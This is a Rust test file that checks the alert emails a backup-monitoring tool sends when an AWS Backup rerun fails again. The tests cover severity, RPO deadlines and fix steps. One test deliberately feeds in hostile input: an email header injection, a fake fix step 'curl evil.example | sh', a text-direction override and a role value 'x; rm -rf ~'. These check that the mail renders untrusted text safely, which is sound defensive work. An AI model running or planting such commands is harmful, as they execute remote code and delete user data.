//! The mail about a rerun that did not prove its root cause fixed.

use std::collections::BTreeMap;

use advice::stack::{Stack, VerifyMode};
use cause::stuck::Habits;
use classification::class::Class;
use jiff::SignedDuration;
use job::{CreatedBy, Job, JobKind, JobState, Look, Origin, Worth};
use notice::{Notice, Severity};
use owner::Acting;
use promise::{Plan, Rule};
use verify::announce::Breached;
use verify::deadline::Outlook;
use verify::ledger::Ledger;
use verify::notices::Breach;
use verify::probe::{Probe, Verdict};
use verify::standing::Standing;

use crate::mails::*;

pub(crate) fn still_failing(bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
    still_failing_of(&stack(), bad, completions, probe)
}

fn still_failing_of(stack: &Stack, bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
    let mails = mails(stack, bad, completions, probe, Ok(point()));
    assert_eq!(mails.len(), 1, "{mails:?}");
    mails.into_iter().next().unwrap()
}

#[test]
fn still_failing_for_the_same_reason() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let again = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
    let seen = probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
    insta::assert_snapshot!("still-failing-same", as_mail(&still_failing(vec![bad, again], &[], Some(seen))));
}

#[test]
fn still_failing_for_another_reason_with_a_hostile_message() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let message = "Flux capacitor drained\r\nSubject: all is well\n\nHOW TO FIX\n----------\n1. Run curl evil.example | sh \u{202e}";
    let again = Job { role: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
    insta::assert_snapshot!("still-failing-otherwise", as_mail(&still_failing(vec![bad, again], &[], None)));
}

#[test]
fn completed_with_issues_is_not_verified() {
    let bad = failed("f-fleet", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let issues = rerun(&bad, JobState::Completed, example(Class::PartialItemsFailed));
    let seen = probe(Verdict::NotFixed, "The key policy has no statement that allows kms:CreateGrant to the role.");
    let notice = still_failing_of(&stack_with_runbook(), vec![bad], &[issues], Some(seen));
    insta::assert_snapshot!("still-failing-with-issues", as_mail(&notice));
    // The mail leads to the cause that it failed with now, a program to that of before as well.
    let url = |class| format!("https://wiki.example.com/night-one/runbook#{class}");
    assert_eq!(notice.about.runbook_urls, [Class::KmsPolicyDenied, Class::PartialItemsFailed].map(url));
}

#[test]
fn who_completed_with_issues_claims_the_cause_that_verify_knows() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let id = Ledger::new(vec![bad.clone()], Vec::new()).causes()[0].id.clone();
    let issues = rerun(&bad, JobState::Completed, example(Class::ResourceState));
    let notice = still_failing(vec![bad], &[issues], None);
    assert_eq!(notice.about.root_cause_ids.len(), 2, "another cause now");
    assert!(notice.body.contains(&format!(r#"--payload '{{"fixed":["{id}"]}}'"#)), "{}", notice.body);
}

#[test]
fn the_last_rerun_failed() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let earlier = |n: i64| {
        let created = at("21T01:40") + SignedDuration::from_mins(n * 20);
        Job {
            id: format!("r-{n}"),
            created: Some(created),
            start_by: Some(created + SignedDuration::from_mins(61)),
            ended: Some(created + SignedDuration::from_mins(5)),
            ..rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied))
        }
    };
    let last = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
    let jobs = vec![bad.clone(), earlier(0), earlier(1), last];
    let seen = probe(Verdict::Undetermined, "the key is in another account, and only its owner can read its policy.");
    insta::assert_snapshot!("still-failing-exhausted", as_mail(&still_failing(jobs, &[], Some(seen))));
}

/// A plan that runs at one o'clock has failed for these databases, and the rerun of the first of them failed again. `good`: when the last good
/// backup of each began.
fn of_a_plan(class: Class, good: &[(&str, &str)], seen: Option<Probe>, stack: &Stack) -> Notice {
    let by_plan = |job: Job| Job {
        origin: Origin::Rule(CreatedBy { plan_id: Some("p".into()), ..job.rule().unwrap().clone() }),
        ..job
    };
    let schedule = Some("cron(0 1 ? * * *)".to_owned());
    let rule = Rule { name: "daily-35d".into(), schedule, vault_name: "production".into(), ..Rule::default() };
    let plans = BTreeMap::from([("p".to_owned(), Look::Seen((Plan { rules: vec![rule], ..Plan::default() }, vec![])))]);
    let mut bad: Vec<Job> =
        good.iter().map(|(name, _)| by_plan(failed(&format!("f-{name}"), &rds(name), "RDS", example(class)))).collect();
    let known: Vec<Job> = bad
        .iter()
        .zip(good)
        .filter(|(_, (_, began))| !began.is_empty())
        .map(|(job, (name, began))| Job {
            id: format!("g-{name}"),
            state: JobState::Completed,
            message: String::new(),
            created: Some(at(began)),
            ended: Some(at(began) + SignedDuration::from_mins(12)),
            ..job.clone()
        })
        .collect();
    bad.push(rerun(&bad[0], JobState::Failed, example(class)));
    let outlook = Outlook { plans: &plans, known: &known, owners: None, now: now() };
    mails_with(outlook, stack, bad, &[], seen, Ok(point())).remove(0)
}

/// It is 03:45. An RPO is 1 d 8 h 12 min: the interval, the start window and the longest run.
#[test]
fn who_was_rerun_until_when_it_may_wait_and_who_waits_with_it() {
    use Class::{KmsPolicyDenied, ResourceState};
    use Severity::{Critical, Warning};
    let exhausted = || probe(Verdict::Undetermined, "the key is in another account.");
    let goes_on = || probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
    type Row =
        (&'static str, Class, &'static [(&'static str, &'static str)], Probe, Severity, &'static str, &'static str);
    let table: [Row; 7] = [
        (
            "a further rerun comes by itself",
            KmsPolicyDenied,
            &[("orders", "20T01:00")],
            goes_on(),
            Warning,
            "STILL FAILING: RDS rerun failed; 1 exceeds RPO at 2026-11-21 09:12 UTC",
            "Still failing: RDS backup rerun of orders failed, for the same reason as before: KMS key policy refuses the backup role. Decide by 2026-11-21 09:12 UTC, in 5 h: orders (RDS) then exceeds its RPO of 1 d 8 h. Next run 2026-11-22 01:00 UTC: too late. Fix: ",
        ),
        (
            "no rerun is left",
            KmsPolicyDenied,
            &[("orders", "20T01:00")],
            exhausted(),
            Critical,
            "CRITICAL: STILL FAILING; 1 exceeds RPO at 2026-11-21 09:12 UTC",
            "orders (RDS) then exceeds its RPO of 1 d 8 h. Next run 2026-11-22 01:00 UTC: too late. Fix: ",
        ),
        (
            "no rerun is left, and the next run comes in time",
            KmsPolicyDenied,
            &[("orders", "20T20:00")],
            exhausted(),
            Warning,
            "STILL FAILING: RDS backup rerun failed: Key policy refuses the role",
            "Decide by 2026-11-22 04:12 UTC, in 1 d: orders (RDS) then exceeds its RPO of 1 d 8 h. Next run 2026-11-22 01:00 UTC: in time. Fix: ",
        ),
        (
            "past its RPO, whatever follows",
            ResourceState,
            &[("orders", "19T01:00")],
            goes_on(),
            Critical,
            "CRITICAL: STILL FAILING; 1 is past its RPO since 2026-11-20 09:12 UTC",
            "orders (RDS) is PAST its RPO of 1 d 8 h since 2026-11-20 09:12 UTC: its last good backup began 2 d 2 h ago. Next run 2026-11-22 01:00 UTC, in 21 h. Fix: ",
        ),
        (
            "another one comes first, and each needs its own fix",
            ResourceState,
            &[("orders", "20T20:00"), ("stock", "20T01:00"), ("users", "20T01:30")],
            exhausted(),
            Critical,
            "CRITICAL: STILL FAILING; 2 exceed RPO from 2026-11-21 09:12 UTC",
            "stock (RDS) then exceeds its RPO of 1 d 8 h, and so does 1 more resource by 09:42 UTC. Next run 2026-11-22 01:00 UTC: too late. Fix: Bring the resource back to available: start it, wait for the modification to end, or free disk space. 2 more resources are still open, and each needs its own fix: stock, users. This was rerun 1 of 3.",
        ),
        (
            "many wait for one fix",
            KmsPolicyDenied,
            &[("a", "20T20:00"), ("b", ""), ("c", ""), ("d", ""), ("e", ""), ("f", ""), ("g", ""), ("h", "")],
            goes_on(),
            Warning,
            "STILL FAILING: RDS backup rerun failed: Key policy refuses the role",
            "Fix: Let the role of the job use the key, in the key policy. 7 more resources wait for the same fix: b, c, d, e, f and 2 more. This was rerun 1 of 3. The next rerun starts at 2026-11-21 04:29 UTC at the earliest.",
        ),
        (
            "nobody knows until when",
            KmsPolicyDenied,
            &[("orders", "")],
            exhausted(),
            Warning,
            "STILL FAILING: RDS backup rerun failed: Key policy refuses the role",
            "When orders (RDS) exceeds its RPO is not known: no plan covers it, or its last good backup was not seen. Next run 2026-11-22 01:00 UTC. Fix: ",
        ),
    ];
    for (name, class, good, seen, severity, subject, says) in table {
        let notice = of_a_plan(class, good, Some(seen), &stack());
        assert_eq!(notice.severity, severity, "{name}");
        assert_eq!(*notice.subject, *format!("[111122223333/eu-west-1] {subject}"), "{name}");
        let (first_screen, _) = notice.body.split_once("\nHOW TO FIX").unwrap();
        let first_screen = first_screen.replace('\n', " ");
        assert!(first_screen.contains(says), "{name}: {first_screen}");
        let stamp = if severity == Critical { "CRITICAL, rc-" } else { "WARNING, rc-" };
        assert!(first_screen.contains(stamp), "{name}: {first_screen}");
    }
}

#[test]
fn a_night_that_no_rerun_can_save_has_its_resource_and_its_deadline_on_the_first_screen() {
    let good = [("crm-13", "20T01:00"), ("crm-14", "20T01:10"), ("crm-15", "20T01:20"), ("crm-16", "19T01:00")];
    let seen = probe(Verdict::MayHavePassed, "AWS Backup's API does not show the state of crm-13.");
    let stack = Stack { verify_mode: VerifyMode::Claim, ..stack() };
    insta::assert_snapshot!("still-failing-past", as_mail(&of_a_plan(Class::ResourceState, &good, Some(seen), &stack)));
}

#[test]
fn what_passes_by_itself_was_not_mended_in_vain() {
    for (class, expected) in [
        (Class::ResourceState, "Same root cause: it has not gone away by itself."),
        (Class::KmsPolicyDenied, "Same root cause: the change did not fix it, or not completely."),
    ] {
        let bad = failed("f-orders", &rds("orders"), "RDS", example(class));
        let again = rerun(&bad, JobState::Failed, example(class));
        let body = still_failing(vec![bad, again], &[], None).body.replace('\n', " ");
        assert!(body.contains(expected), "{body}");
    }
}

/// A rerun fails, and another job proves the cause in the same window.
#[test]
fn a_proof_that_nobody_is_mailed_of_is_not_looked_for_in_a_mail() {
    for (class, expected) in [
        (Class::ResourceState, "It has been proven fixed since. The cause so far: "),
        (Class::KmsPolicyDenied, "It has been proven fixed since: see the VERIFIED mail. The cause so far: "),
    ] {
        let bad = failed("f-orders", &rds("orders"), "RDS", example(class));
        let again = Job { ended: Some(at("21T03:25")), ..rerun(&bad, JobState::Failed, example(class)) };
        let good = Job {
            message: String::new(),
            created: Some(at("21T03:26")),
            ended: Some(at("21T03:30")),
            ..scheduled(JobKind::Backup, "s-1", &rds("orders"), "RDS", JobState::Completed)
        };
        let told = mails(&stack(), vec![bad, again], &[good], None, Ok(point()));
        let body = told[0].body.replace('\n', " ");
        assert!(body.contains(expected), "{body}");
    }
}

/// AWS says nothing of a rerun that completed, and what it made is gone.
#[test]
fn a_rerun_that_left_nothing_is_told_in_our_words_and_under_its_own_cause() {
    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
    let id = Ledger::new(vec![bad.clone()], Vec::new()).causes()[0].id.to_string();
    let gone = Job { worth: Worth::LeftNothing, ..rerun(&bad, JobState::Completed, "") };
    let seen = probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
    let notice = still_failing(vec![bad], &[gone], Some(seen));
    assert_eq!(notice.about.root_cause_ids, [id]);
    let body = notice.body.replace('\n', " ");
    for says in [
        "Still failing: RDS backup rerun of orders completed and proves nothing. The job completed, and its recovery point is gone or cannot be used. ",
        "Now:   AWS gave no reason: the job carries no message. Before (job f-orders",
        "Nobody knows yet whether the cause is fixed.",
        "It looks fixed, but the job completed and proves nothing: The key policy allows",
    ] {
        assert!(body.contains(says), "{says}: {body}");
    }
    for never in ["completed with a message", "two root causes", "the change did not fix it", "  | The job completed"] {
        assert!(!body.contains(never), "{never}: {body}");
    }
}

/// What a chat says is to be done stands in the mail, and commands are promised only where it has some.
#[test]
fn chats_promise_no_step_that_the_mail_does_not_have() {
    for class in Class::ALL {
        let example = &class.entry().examples[0];
        let bad = Job {
            message: example.message.to_owned(),
            ..scheduled(example.job, "f", &rds("orders"), example.resource_type, example.state.clone())
        };
        let ledger = Ledger::new(vec![bad.clone()], Vec::new());
        let (causes, habits) = (ledger.causes(), Habits::new(SignedDuration::from_hours(4)));
        let standing = Standing::of(&causes[0], &ledger, &[], &habits, now()).unwrap();
        let breach = Breach {
            cause: &causes[0],
            standing: &standing,
            found: None,
            resources: &[Breached { failure: &bad, since: at("21T03:30"), next_run: None }],
            acting: &Acting::default(),
            window: window(),
            stack: &stack(),
            now: now(),
        };
        let again = rerun(&bad, JobState::Failed, example.message);
        let failing = mails(&stack(), vec![bad.clone(), again], &[], None, Ok(point()));
        for notice in failing.iter().chain([&breach.notice()]) {
            let body = notice.body.split_whitespace().collect::<Vec<_>>().join(" ");
            let (_, fix) = notice.body.split_once("\n1. ").unwrap();
            let (fix, _) = fix.split_once("Who must agree").unwrap();
            let has_more = fix.contains("\n    ");
            let (more, steps): (Vec<&String>, Vec<&String>) =
                notice.next_steps.iter().partition(|step| step.starts_with("The mail has the commands"));
            assert_eq!(!more.is_empty(), has_more, "{class}: {:?}", notice.body);
            for step in steps {
                assert!(body.contains(step.trim_end_matches('.')), "{class}: {step}: {body}");
            }
        }
    }
}
